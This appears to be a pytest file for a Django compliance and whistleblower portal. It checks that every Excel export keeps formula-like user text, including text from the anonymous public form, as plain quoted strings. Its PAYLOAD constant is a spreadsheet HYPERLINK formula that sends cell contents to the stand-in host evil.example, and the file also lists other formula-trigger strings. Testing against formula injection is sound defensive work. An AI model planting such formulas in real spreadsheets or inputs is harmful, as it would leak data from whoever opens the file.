"""Text that a spreadsheet would run as a formula is written as text, in every Excel export of the portal.

Each export is read back with openpyxl: the planted text must be a string cell shown exactly as typed (with Excel's
quote-prefix mark), and no cell of any export may be a formula. The worst path needs no sign-in: «Хто причетний?» on
the public whistleblower form ends up in the officer's journal.
"""

from __future__ import annotations

import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from core.spreadsheets import append_row
from programs.choices import Country
from programs.models import Organisation
from reports.choices import ReportFormat, ReportKind, ReportStatus
from reports.documents.services import report_render, report_request
from tests.factories import InducementNotificationFactory, WhistleblowerReportFactory
from tests.whistleblowers.conftest import submit
from whistleblowers.models import WhistleblowerReport
from whistleblowers.services import report_register

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_storage")]

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Відкрити документ")'
TRIGGERS = [PAYLOAD, "+380441234567", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def read_back(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", TRIGGERS)
def test_a_cell_starting_like_a_formula_is_stored_as_the_text_typed(text):
    workbook = Workbook()
    append_row(workbook.active, ["№", text, 7, None, "звичайний текст"])
    output = io.BytesIO()
    workbook.save(output)

    first, cell, number, _empty, plain = read_back(output.getvalue())[:5]

    # A carriage return comes back as itself or, where the XML parser normalises line ends, as a line feed
    # (openpyxl writes it raw or escaped depending on which XML library it picked): what matters is that it stays text.
    assert (cell.value.replace("\r", "\n"), cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    assert (number.value, number.data_type) == (7, "n")
    assert (plain.value, plain.quotePrefix) == ("звичайний текст", False)
    assert first.value == "№"


# --- every export -------------------------------------------------------------------------------------------------


@pytest.fixture
def planted(program_content):
    """The payload in every free-text field of the program that some export shows as it is."""
    measure = program_content.measures["unit_quarter"]
    measure.target_audience = PAYLOAD
    measure.indicator = PAYLOAD
    measure.save()
    measure.task.title = PAYLOAD
    measure.task.save()
    risk = program_content.risks[0]
    risk.title = risk.factors = PAYLOAD
    risk.save()
    entry = program_content.entries["unit_quarter"]
    entry.next_steps = PAYLOAD
    entry.save()
    return program_content


def generated(user, **inputs) -> bytes:
    report = report_request(user=user, file_format=ReportFormat.XLSX, **inputs)
    report = report_render(report_id=report.pk)
    assert report.status == ReportStatus.READY, report.error
    return report.file.open("rb").read()


def risks_page(request, content):
    url = reverse("risks:export", args=[content.program.pk])
    return request.getfixturevalue("login")("secretary").get(url)


def measures_page(request, content):
    url = reverse("measures:export", args=[content.program.pk])
    return request.getfixturevalue("login")("secretary").get(url)


def execution_report(request, content):
    secretary = request.getfixturevalue("secretary")
    return generated(secretary, kind=ReportKind.EXECUTION, program=content.program, period=content.periods[0])


def program_document(request, content):
    return generated(request.getfixturevalue("secretary"), kind=ReportKind.PROGRAM, program=content.program)


def form_1(request, content):
    secretary = request.getfixturevalue("secretary")
    # Form 1 is the Kyrgyz form: a body of Kyrgyzstan writes it in Russian.
    Organisation.objects.filter(pk=content.program.organisation_id).update(country=Country.KYRGYZSTAN)
    content.program.organisation.refresh_from_db()
    return generated(secretary, kind=ReportKind.FORM1, program=content.program, period=content.periods[0])


def officer_typed_report(organisation, officer):
    report = WhistleblowerReportFactory(organisation=organisation, summary=PAYLOAD, outcome=PAYLOAD)
    return report_register(report=report, user=officer)


def whistleblower_journal_page(request, content):
    officer_typed_report(content.program.organisation, request.getfixturevalue("officer"))
    return request.getfixturevalue("login")("officer").get(reverse("whistleblowers:report-export"))


def public_form_to_generated_journal(request, content):
    """«Хто причетний?» typed on the public form, without signing in, read in the officer's generated journal."""
    organisation, officer = content.program.organisation, request.getfixturevalue("officer")
    assert submit(Client(REMOTE_ADDR="203.0.113.7"), organisation, accused=PAYLOAD).status_code == 200
    report_register(report=WhistleblowerReport.objects.get(), user=officer)
    year = timezone.localdate().year
    return generated(officer, kind=ReportKind.WHISTLEBLOWER_JOURNAL, organisation=organisation, year=year)


def inducement_journal_page(request, content):
    InducementNotificationFactory(organisation=content.program.organisation, notifier=PAYLOAD, summary=PAYLOAD)
    url = reverse("whistleblowers:inducement-list") + "?format=xlsx"
    return request.getfixturevalue("login")("officer").get(url)


def inducement_journal_generated(request, content):
    organisation = content.program.organisation
    InducementNotificationFactory(organisation=organisation, notifier=PAYLOAD, summary=PAYLOAD)
    officer = request.getfixturevalue("officer")
    return generated(officer, kind=ReportKind.INDUCEMENT_JOURNAL, organisation=organisation, year=2024)


EXPORTS = [
    risks_page,
    measures_page,
    execution_report,
    program_document,
    form_1,
    whistleblower_journal_page,
    public_form_to_generated_journal,
    inducement_journal_page,
    inducement_journal_generated,
]


@pytest.mark.parametrize("export", EXPORTS, ids=[export.__name__ for export in EXPORTS])
def test_no_export_turns_typed_text_into_a_formula(request, planted, export):
    result = export(request, planted)
    if not isinstance(result, bytes):
        assert result.status_code == 200
        result = result.content

    cells = read_back(result)
    planted_cells = [cell for cell in cells if cell.value == PAYLOAD]

    assert planted_cells, "the typed text should appear in the export as it was typed"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in planted_cells)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_an_exported_measure_starting_with_a_formula_sign_imports_back_as_typed(login, planted):
    from measures.excel import parse_workbook

    program = planted.program
    exported = login("secretary").get(reverse("measures:export", args=[program.pk])).content

    preview = parse_workbook(exported, program=program)

    assert PAYLOAD in {row.indicator for row in preview.rows}
    assert PAYLOAD in {row.target_audience for row in preview.rows}
